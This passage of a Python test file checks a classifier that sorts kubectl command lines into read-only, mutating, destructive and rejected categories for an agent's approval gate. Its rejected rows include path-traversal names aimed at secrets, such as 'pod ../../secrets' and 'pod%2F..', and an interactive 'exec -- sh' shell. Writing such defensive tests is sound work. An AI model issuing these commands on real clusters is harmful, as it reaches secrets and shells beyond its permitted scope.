    ("kubectl patch deploy api --subresource=status -p '{\"status\":{}}'", SHOP, X, "flag-not-allowed"),
    # what the command acts on
    ("kubectl get", SHOP, X, "missing-target"),
    ("kubectl delete pods", SHOP, X, "missing-target"),
    ("kubectl delete", SHOP, X, "missing-target"),
    ("kubectl patch deploy api", SHOP, X, "missing-target"),
    ("kubectl patch deploy -p '{\"a\":1}'", SHOP, X, "missing-target"),
    ("kubectl scale deploy/api", SHOP, X, "missing-target"),
    ("kubectl set image deploy/web", SHOP, X, "missing-target"),
    ("kubectl set resources deploy/web", SHOP, X, "missing-target"),
    ("kubectl label pod a", SHOP, X, "missing-target"),
    ("kubectl apply", SHOP, X, "missing-target"),
    ("kubectl cordon", CLUSTER, X, "missing-target"),
    ("kubectl get pod/a b", SHOP, X, "bad-arguments"),
    ("kubectl api-resources pods", SHOP, X, "bad-arguments"),
    ("kubectl apply -f x.yaml deploy/api", SHOP, X, "bad-arguments"),
    ("kubectl logs a b c --tail=1", SHOP, X, "bad-arguments"),
    ("kubectl get pod ../../secrets", SHOP, X, "bad-arguments"),
    ("kubectl get pod ..", SHOP, X, "bad-name"),
    ("kubectl delete pod .", SHOP, X, "bad-name"),
    ("kubectl get pods/../secrets", SHOP, X, "bad-name"),
    ("kubectl delete pod/", SHOP, X, "bad-name"),
    ("kubectl get pod%2F..", SHOP, X, "bad-name"),
    ("kubectl get po,,svc", SHOP, X, "bad-name"),
    ("kubectl delete foos.example.com x", SHOP, X, "unknown-resource"),
    ("kubectl patch certificate web -p '{\"a\":1}'", SHOP, X, "unknown-resource"),
]

TABLE = DONE_WHEN + READ_ONLY + MUTATING + DESTRUCTIVE + REJECTED


def _scope(namespace: str | None) -> Scope:
    return Scope(namespace, context="kind-dev", default_namespace="default")


def test_the_table_is_big_and_covers_every_category() -> None:
    assert len(TABLE) >= 200
    assert {row[2] for row in TABLE} == set(Category)


@pytest.mark.parametrize(("line", "namespace", "category", "rule"), TABLE, ids=[row[0][:70] for row in TABLE])
def test_classification_table(line: str, namespace: str | None, category: Category, rule: str) -> None:
    decision = classify_command_line(line, _scope(namespace))
    assert (decision.category, decision.rule) == (category, rule), decision.reason
    assert decision.reason and "\n" not in decision.reason


def test_argv_lists_are_taken_as_given_without_a_shell() -> None:
    scope = _scope(SHOP)
    # A JSON patch with spaces is one argument: no quoting involved.
    patch = classify(["kubectl", "patch", "svc", "db", "-p", '{"spec": {"selector": {"app": "db"}}}'], scope)
    assert patch.category is M
    # A whole command line passed as one word is not kubectl.
    assert classify(["kubectl get pods"], scope).rule == "other-binary"
    assert classify([], scope).rule == "empty"
    assert classify(["kubectl", "get", 3], scope).rule == "bad-arguments"  # type: ignore[list-item]
    assert classify_command_line("   ", scope).rule == "empty"


def test_global_flags_are_the_same_before_and_after_the_verb() -> None:
    scope = _scope(SHOP)
    before = classify_command_line("kubectl -n shop delete pod a", scope)
    after = classify_command_line("kubectl delete pod a -n shop", scope)
    between = classify_command_line("kubectl rollout -n shop restart deploy/api", scope)
    assert (before.category, before.verb, before.namespace) == (after.category, after.verb, after.namespace)
    assert [str(o) for o in before.objects] == [str(o) for o in after.objects] == ["pod/a"]
    assert between.verb == "rollout restart" and between.namespace == "shop"


def test_decision_details_for_previews_and_the_typed_name() -> None:
    d = classify_command_line("kubectl -n shop scale deployment.apps/api --replicas=0", _scope(SHOP))
    assert d.verb == "scale" and d.namespace == "shop" and not d.by_selector
    assert [o.to_dict() for o in d.objects] == [
        {"resource": "deployments.apps", "kind": "Deployment", "name": "api", "namespace": "shop"}]
    assert d.confirm_word == "api" and d.needs_approval

    several = classify_command_line("kubectl delete pods a b", _scope(SHOP))
    assert [str(o) for o in several.objects] == ["pod/a", "pod/b"] and several.confirm_word == "shop"

    chosen = classify_command_line("kubectl delete pods -l app=api", _scope(SHOP))
    assert chosen.by_selector and chosen.selector == "app=api" and chosen.objects == ()
    assert chosen.confirm_word == "shop"

    node = classify_command_line("kubectl drain gke-pool-1 --ignore-daemonsets", _scope(CLUSTER))
    assert node.objects[0].namespace is None and node.objects[0].kind == "Node"
    assert node.confirm_word == "gke-pool-1"

    multi = classify_command_line("kubectl get po,deploy.apps x", _scope(SHOP))
    assert multi.resources == ("pods", "deployments.apps")
    assert [str(o) for o in multi.objects] == ["pod/x", "deployment/x"]


def test_subverbs_are_named_in_the_decision() -> None:
    scope = _scope(SHOP)
    assert classify_command_line("kubectl set image deploy/web web=nginx", scope).verb == "set image"
    assert classify_command_line("kubectl rollout restart deploy/web", scope).verb == "rollout restart"
    assert classify_command_line("kubectl top pods", scope).verb == "top pod"
    assert classify_command_line("kubectl auth can-i get pods", scope).verb == "auth can-i"
    # Rejected decisions still name the verb when one could be read.
    assert classify_command_line("kubectl exec -it a -- sh", scope).verb == "exec"
    assert classify_command_line("kubectl get pods -n other", scope).verb == "get"


def test_cluster_wide_scope_uses_the_contexts_namespace_without_n() -> None:
    scope = Scope(None, context="prod", default_namespace="team-a")
    d = classify_command_line("kubectl delete pod a", scope)
    assert d.namespace == "team-a" and d.objects[0].namespace == "team-a"
    assert d.confirm_word == "a"
    assert classify_command_line("kubectl get pods -A", scope).all_namespaces


def test_only_the_classifier_builds_decisions() -> None:
    from kubectl_prism.agent.decision import Decision

    with pytest.raises(TypeError):
        Decision(("kubectl", "delete", "ns", "shop"), _scope(SHOP), M, "write", "forged", object())
    real = classify_command_line("kubectl get pods", _scope(SHOP))
    import dataclasses

    with pytest.raises((TypeError, ValueError)):
        dataclasses.replace(real, category=M)


def test_decision_json_is_complete() -> None:
    d = classify_command_line("kubectl -n shop patch svc db -p '{\"spec\":{}}'", _scope(SHOP))
    doc = d.to_dict()
    assert doc["category"] == "mutating" and doc["rule"] == "write" and doc["verb"] == "patch"
    assert doc["argv"][:3] == ["kubectl", "-n", "shop"] and len(doc["sha256"]) == 64
    assert doc["objects"] == [{"resource": "services", "kind": "Service", "name": "db", "namespace": "shop"}]
    assert doc["scope"] == {"namespace": "shop", "context": "kind-dev", "clusterWide": False}


def test_oversized_input_is_rejected_before_any_work() -> None:
    scope = _scope(SHOP)
    many = ["kubectl", "label", "pods", "a", *(f"k{i}=v" for i in range(100_000))]
    assert classify(many, scope).rule == "too-long" and len(classify(many, scope).argv) == 17
    assert classify(["kubectl", "get", "pods", "-l", "a" * 1_000_000], scope).rule == "too-long"
    line = classify_command_line("kubectl get pods " + "x " * 1_000_000, scope)
    assert line.rule == "too-long" and len(line.argv[0]) < 300  # the decision does not keep the input
    fits = ["kubectl", "label", "pods", "a", *(f"k{i}=v" for i in range(200))]
    assert classify(fits, scope).category is M


def test_a_huge_command_from_the_cli_ends_fast_and_small() -> None:
    from tests.limits import run_limited

    words = [f"k{i}=v" for i in range(100_000)]  # ~1.5 MB of arguments with their pointers: under ARG_MAX
    run = run_limited(["agent", "classify", "-n", "shop", "-o", "json", "--", "kubectl", "label", "pods", "a",
                       *words], seconds=10, rss_mb=300)
    assert run.within(10, 300), run.describe()
    assert run.code == 0 and '"rule": "too-long"' in run.stdout and len(run.stdout) < 10_000
